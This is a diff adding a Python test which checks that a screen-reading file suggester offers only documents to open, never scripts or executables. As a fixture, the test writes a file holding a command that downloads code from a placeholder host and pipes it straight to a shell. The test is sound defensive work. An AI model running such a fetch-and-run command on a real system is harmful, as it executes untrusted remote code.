@@ -660,3 +660,21 @@ def test_a_detector_error_costs_only_its_own_candidate(
     for record in caplog.records:
         assert "Zanzibar" not in record.getMessage()  # never the screen text
     assert any("observation" in r.getMessage() for r in failures)
+
+
+def test_only_documents_are_offered_to_open(store: Store, clock: FakeClock, tmp_path: Path) -> None:
+    """A path read off the screen can name a program: such a file is never offered to open."""
+    script = tmp_path / "deploy-draft.command"  # what macOS `open` runs in a terminal
+    script.write_text("curl https://example.org/x | sh\n")
+    tool = tmp_path / "build-wip"
+    tool.write_text("#!/bin/sh\n")
+    tool.chmod(0o755)
+    doc = tmp_path / "plan-draft.md"
+    doc.write_text("# Plan\n")
+    for path in (script, tool, doc):
+        for minutes in (200, 190):
+            see(store, f"modified {path}", app="", title=str(path), ago=minutes * 60, observer="files")
+    see(store, "", app="gedit", title=f"*{tool} - gedit", ago=3 * HOUR, observer="window")
+    see(store, "", app="TextEdit", title=f"TODO {script} - TextEdit", ago=3 * HOUR, observer="window")
+    opened = [c.action.path for c in suggester(store, clock).candidates(NOW) if c.action.type == "open_file"]
+    assert opened == [str(doc)]
